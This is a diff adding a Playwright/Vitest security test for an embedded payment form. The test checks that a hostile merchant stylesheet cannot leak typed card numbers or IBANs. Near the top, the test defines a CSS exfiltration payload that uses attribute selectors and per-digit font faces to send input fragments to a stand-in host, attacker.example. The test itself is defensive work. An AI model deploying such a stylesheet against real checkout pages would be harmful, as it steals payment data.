@@ -1,0 +1,154 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import { createRequire } from 'node:module';
+import path from 'node:path';
+import type { Browser, BrowserContext, Page } from 'playwright-core';
+import type Stripe from 'stripe';
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
+import { launchBrowser, newPage } from './fixtures/browser.js';
+import { type MerchantPage, startMerchantPage } from './fixtures/merchant-page.js';
+import { screenshot } from './fixtures/screenshots.js';
+import { type Stack, startStack } from './fixtures/stack.js';
+import { PaymentElementModel } from './models/payment-element.js';
+
+/** The attacker's host; the browser context answers for it (nothing leaves the machine). */
+const ATTACKER = 'https://attacker.example';
+
+/**
+ * A stylesheet a compromised merchant page names as `fonts[].cssSrc`: one honest font face, and
+ * every way CSS can read an input: attribute selectors on typed values, and a face per digit.
+ */
+const EVIL_CSS = `
+@font-face { font-family: 'Shop Sans'; src: url(${ATTACKER}/fonts/shop-sans.ttf) format('truetype'); font-display: block; }
+input[value^="4"] { background-image: url(${ATTACKER}/leak/prefix-4); }
+input[value^="42"] { background-image: url(${ATTACKER}/leak/prefix-42); }
+input[value*="4242"] { background-image: url(${ATTACKER}/leak/contains-4242); }
+input[value$="3"] { background-image: url(${ATTACKER}/leak/suffix-3); }
+input[value*="DE89"] { background-image: url(${ATTACKER}/leak/iban-DE89); }
+@font-face { font-family: 'Spy'; src: url(${ATTACKER}/leak/digit-4); unicode-range: U+0034; }
+@font-face { font-family: 'Spy'; src: url(${ATTACKER}/leak/digit-2); unicode-range: U+0032; }
+@import url(${ATTACKER}/leak/import.css);
+input { font-family: 'Spy', 'Shop Sans', sans-serif !important; }
+`;
+
+/** A real TrueType font from a package already installed (playwright-core's icon font). */
+function testFont(): Buffer {
+  const root = path.dirname(createRequire(import.meta.url).resolve('playwright-core/package.json'));
+  const dir = path.join(root, 'lib/vite/traceViewer');
+  const file = readdirSync(dir).find((name) => /^codicon.*\.ttf$/.test(name));
+  if (!file) throw new Error('no test font found in playwright-core');
+  return readFileSync(path.join(dir, file));
+}
+
+/** Serves the attacker's host in this browser context and records every request it gets. */
+async function attackerHost(context: BrowserContext): Promise<string[]> {
+  const seen: string[] = [];
+  const font = testFont();
+  await context.route(`${ATTACKER}/**`, async (route) => {
+    const url = new URL(route.request().url());
+    seen.push(url.pathname);
+    const cors = { 'access-control-allow-origin': '*' };
+    if (url.pathname === '/evil.css') {
+      return route.fulfill({ status: 200, headers: { ...cors, 'content-type': 'text/css' }, body: EVIL_CSS });
+    }
+    if (url.pathname === '/fonts/shop-sans.ttf') {
+      return route.fulfill({ status: 200, headers: { ...cors, 'content-type': 'font/ttf' }, body: font });
+    }
+    return route.fulfill({ status: 204, headers: cors });
+  });
+  return seen;
+}
+
+describe('a hostile merchant stylesheet given as fonts[].cssSrc', () => {
+  let stack: Stack;
+  let merchant: MerchantPage;
+  let browser: Browser;
+  let page: Page;
+  let element: PaymentElementModel;
+  let seen: string[];
+
+  beforeAll(async () => {
+    [stack, browser] = await Promise.all([startStack(), launchBrowser()]);
+    merchant = await startMerchantPage(stack.payframeUrl);
+  });
+  afterAll(async () => {
+    await browser?.close();
+    await merchant?.close();
+    await stack?.close();
+  });
+  beforeEach(async () => {
+    page = await newPage(browser);
+    seen = await attackerHost(page.context());
+    element = new PaymentElementModel(page);
+  });
+  afterEach(async () => page?.context().close());
+
+  async function mount(types: string[]) {
+    const params = { amount: 2400, currency: 'eur', payment_method_types: types };
+    const intent = await stack.stripe.paymentIntents.create(params as Stripe.PaymentIntentCreateParams);
+    await page.goto(merchant.url);
+    await page.evaluate(
+      ([key, options]) => {
+        (window as unknown as { publishableKey: string }).publishableKey = key as string;
+        (window as unknown as { mountPayment(o: unknown): void }).mountPayment(options);
+      },
+      [
+        stack.server.keys.testPublishable,
+        {
+          clientSecret: intent.client_secret,
+          fonts: [{ cssSrc: `${ATTACKER}/evil.css` }],
+          appearance: { variables: { fontFamily: '"Shop Sans", sans-serif' } },
+        },
+      ] as const,
+    );
+    await element.ready();
+    return intent;
+  }
+
+  /** The `value` attribute of every input of the payment frame (what a selector could match). */
+  const valueAttributes = () =>
+    element.frame
+      .locator('input')
+      .evaluateAll((inputs) => inputs.map((input) => input.getAttribute('value')));
+
+  it('loads only its font face; no typed digit reaches the attacker, and the card still pays', async () => {
+    const intent = await mount(['card']);
+    const frame = (await (await element.iframe.elementHandle())!.contentFrame())!;
+    // The honest face is read from the stylesheet and loaded (with the FontFace API).
+    await frame.waitForFunction(() =>
+      [...document.fonts].some(
+        (face) => face.family.replace(/"/g, '') === 'Shop Sans' && face.status === 'loaded',
+      ),
+    );
+    await element.fillCard({ number: '4242424242424242', expiry: '1234', cvc: '123', postalCode: '10001' });
+    expect((await valueAttributes()).length).toBeGreaterThanOrEqual(4);
+    for (const value of await valueAttributes()) expect(value ?? '').toBe('');
+    await screenshot(page, 'hostile-fonts-card');
+
+    const paid = await page.evaluate(async () => {
+      const w = window as unknown as {
+        payframe: { confirmPayment(o: unknown): Promise<{ paymentIntent?: { status: string } }> };
+        elements: unknown;
+      };
+      const result = await w.payframe.confirmPayment({ elements: w.elements, redirect: 'if_required' });
+      return result.paymentIntent?.status;
+    });
+    expect(paid).toBe('succeeded');
+    expect((await stack.stripe.paymentIntents.retrieve(intent.id)).status).toBe('succeeded');
+    expect(seen).toContain('/evil.css');
+    expect(seen).toContain('/fonts/shop-sans.ttf');
+    expect(seen.filter((request) => request.startsWith('/leak/'))).toEqual([]);
+  });
+
+  it('keeps the IBAN out of the DOM too', async () => {
+    await mount(['card', 'sepa_debit']);
+    await element.selectMethod(/SEPA/);
+    await element.fillSepa({
+      name: 'Jenny Rosen',
+      email: 'jenny@example.com',
+      iban: 'DE89370400440532013000',
+    });
+    for (const value of await valueAttributes()) expect(value ?? '').toBe('');
+    expect(await element.input('iban').inputValue()).toMatch(/^DE89/);
+    expect(seen.filter((request) => request.startsWith('/leak/'))).toEqual([]);
+  });
+});
